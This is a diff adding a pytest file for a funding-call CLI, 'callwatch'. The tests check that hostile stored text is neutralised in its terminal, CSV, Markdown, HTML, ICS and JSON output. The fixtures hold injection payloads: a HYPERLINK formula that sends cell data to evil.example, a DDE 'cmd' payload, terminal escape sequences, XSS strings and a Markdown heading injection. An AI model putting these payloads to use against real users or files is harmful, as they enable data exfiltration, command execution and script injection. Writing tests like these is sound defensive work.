@@ -1,0 +1,171 @@
+"""Issue 14: hostile funder data and hostile users. Each test is one reproduction from the issue
+(the item number is in the test name); each failed before the fix."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import sqlite3
+
+import pytest
+from typer.testing import CliRunner
+
+from callwatch.cli import app
+
+runner = CliRunner()
+
+EVIL_TITLE = (
+    '=HYPERLINK("https://evil.example/?x="&A1,"Klimat klick") [/b] [link=https://evil.example]'
+    "klicka[/link] \x1b[31mRÖD\x1b]0;pwned\x07 \u202egnp.exe <script>alert(1)</script> "
+    "<img src=x onerror=alert(1)> klimatanpassning i kommuner"
+)
+EVIL_FUNDER = "+cmd|' /C calc'!A0 \x9b31m"
+CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
+UNESCAPED_TAG = re.compile(r"(?<!\\)<(script|img)", re.I)
+FORMULA = ("=", "+", "-", "@", "\t", "\r")
+
+BASE = {
+    "title": "Klimatanpassning i kommuner",
+    "funder": "Länsstyrelsen",
+    "description": "Kommuner kan söka medel för klimatanpassningsåtgärder mot skyfall.",
+    "deadline": "2027-03-01",
+    "url": "https://example.org/1",
+}
+
+
+def run(*args):
+    return runner.invoke(app, [str(a) for a in args])
+
+
+def write_jsonl(path, rows):
+    path.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in rows) + "\n", "utf-8")
+    return path
+
+
+@pytest.fixture
+def hostile_db(tmp_path):
+    """A database holding hostile text as an older callwatch stored it (written straight into
+    the table, past today's input validation), plus hostile decisions."""
+    f = write_jsonl(
+        tmp_path / "c.jsonl",
+        [BASE | {"id": "evil-1"}, BASE | {"id": "evil-2", "url": "https://example.org/2"}],
+    )
+    db = tmp_path / "h.db"
+    r = run("--db", db, "import", f)
+    assert r.exit_code == 0, r.output
+    conn = sqlite3.connect(db)
+    conn.execute(
+        "UPDATE calls SET title = ?, funder = ?, url = ? WHERE id LIKE '%evil-1'",
+        [EVIL_TITLE, EVIL_FUNDER, "javascript:alert(1)"],
+    )
+    conn.execute(
+        "UPDATE calls SET title = ?, url = ? WHERE id LIKE '%evil-2'",
+        ["@SUM(1+1) [bold]x", "https://ok.example/a\n# injected heading\n<script>x</script>"],
+    )
+    conn.commit()
+    ids = [r[0] for r in conn.execute("SELECT id FROM calls ORDER BY id")]
+    conn.close()
+    for cid in ids:
+        r = run(
+            "--db", db, "mark", cid, "--kommun", "Umeå", "--status", "watch",
+            "--reason", "-2+3 [/i]", "--note", "=1+1 \x1b[2J", "--by", "@me",
+        )  # fmt: skip
+        assert r.exit_code == 0, r.output
+    return db
+
+
+def _clean_text(out: str) -> None:
+    assert "\x1b" not in out and not CONTROL.search(out), repr(CONTROL.search(out))
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        ["calls"],
+        ["rank", "--theme", "klimat", "--all"],
+        ["rank", "--kommun", "Umeå", "--all"],
+        ["decisions"],
+        ["decisions", "--history"],
+        ["watch", "--kommun", "Umeå"],
+    ],
+)
+def test_item5_terminal_never_reads_markup_or_escapes(hostile_db, args):
+    r = run("--db", hostile_db, *args)
+    assert r.exit_code == 0, r.output
+    _clean_text(r.stdout)
+    assert "[/" in r.stdout or "[bold]" in r.stdout or args[0] == "decisions"  # shown literally
+
+
+def test_item5_show_and_explain(hostile_db):
+    ids = [c["id"] for c in json.loads(run("--db", hostile_db, "calls", "-f", "json").stdout)]
+    for cid in ids:
+        r = run("--db", hostile_db, "show", cid)
+        assert r.exit_code == 0, r.output
+        _clean_text(r.stdout)
+        assert "[/b]" in r.stdout or "[bold]" in r.stdout
+        r = run("--db", hostile_db, "explain", cid, "--kommun", "Umeå")
+        assert r.exit_code in (0, 1) and "Traceback" not in r.output
+        _clean_text(r.output)
+
+
+def _csv_cells(text: str, delimiter: str = ","):
+    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))
+    assert rows, text
+    return [c for row in rows[1:] for c in row]
+
+
+@pytest.mark.parametrize(
+    "args,delimiter",
+    [
+        (["calls", "-f", "csv"], ","),
+        (["rank", "--theme", "klimat", "--all", "-f", "csv"], ","),
+        (["decisions", "-f", "csv"], ","),
+        (["decisions", "--history", "-f", "csv"], ","),
+        (["watch", "--kommun", "Umeå", "-f", "csv"], ","),
+        (["export", "--format", "csv", "--all", "--include-closed"], ";"),
+        (["show", "ID", "-f", "csv"], ","),
+    ],
+)
+def test_item4_no_formula_cells_in_any_csv(hostile_db, args, delimiter):
+    if "ID" in args:
+        cid = json.loads(run("--db", hostile_db, "calls", "-f", "json").stdout)[0]["id"]
+        args = [cid if a == "ID" else a for a in args]
+    r = run("--db", hostile_db, *args)
+    assert r.exit_code == 0, r.output
+    cells = _csv_cells(r.stdout, delimiter)
+    assert any("HYPERLINK" in c or "SUM" in c or "1+1" in c for c in cells)  # data is there
+    bad = [c for c in cells if c.startswith(FORMULA)]
+    assert not bad, bad
+    assert not any(CONTROL.search(c) for c in cells)
+
+
+def test_item6_rank_md_escapes(hostile_db):
+    r = run("--db", hostile_db, "rank", "--theme", "klimat", "--all", "--format", "md")
+    assert r.exit_code == 0, r.output
+    out = r.stdout
+    assert "javascript:" not in out and not UNESCAPED_TAG.search(out)
+    assert "](https://ok.example" not in out  # a URL with a line break is no link
+    assert not any(line.startswith("# injected") for line in out.splitlines())
+    _clean_text(out)
+    table = [line for line in out.splitlines() if line.startswith("| ")]
+    assert len(table) == 3 and all(len(re.findall(r"(?<!\\)\|", line)) == 9 for line in table)
+
+
+@pytest.mark.parametrize("fmt", ["md", "html"])
+def test_item5_reports_and_ics_have_no_control_characters(hostile_db, fmt):
+    r = run("--db", hostile_db, "report", "--network", "--format", fmt)
+    assert r.exit_code == 0, r.output
+    _clean_text(r.stdout)
+    assert not UNESCAPED_TAG.search(r.stdout) and "javascript:" not in r.stdout
+    r = run("--db", hostile_db, "export", "--format", "ics", "--all", "--include-closed")
+    assert r.exit_code == 0, r.output
+    _clean_text(r.stdout.replace("\r\n", "\n"))
+    assert "javascript:" not in r.stdout
+
+
+def test_item5_json_escapes_terminal_controls(hostile_db):
+    r = run("--db", hostile_db, "calls", "-f", "json")
+    assert r.exit_code == 0 and "\x9b" not in r.stdout and "\u202e" not in r.stdout
+    assert any(EVIL_FUNDER in c["funder"] for c in json.loads(r.stdout))  # data intact
